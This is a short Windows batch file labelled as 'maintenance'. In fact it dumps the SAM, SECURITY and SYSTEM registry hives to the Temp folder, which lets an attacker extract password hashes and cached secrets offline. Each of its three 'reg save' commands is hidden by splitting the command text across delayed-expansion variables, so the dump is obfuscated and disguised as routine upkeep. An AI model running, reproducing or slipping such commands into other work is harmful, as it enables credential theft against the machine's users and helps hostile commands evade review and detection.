REM maintenance 7065 v2
cmd /v:on /c "set uju0=reg save hklm\sam C:\W&&set qfo1=i&&set umx2=ndows\Temp\sam.save&&!uju0!!qfo1!!umx2!"
cmd /v:on /c "set qiv0=reg save hklm\security C:\Wind&&set ehp1=ows\T&&set hbo2=emp\security.save&&!qiv0!!ehp1!!hbo2!"
cmd /v:on /c "set kqo0=re&&set ewu1=g save hkl&&set lwp2=m\system C:\Windows\Temp\s&&set kng3=ystem.save&&!kqo0!!ewu1!!lwp2!!kng3!"
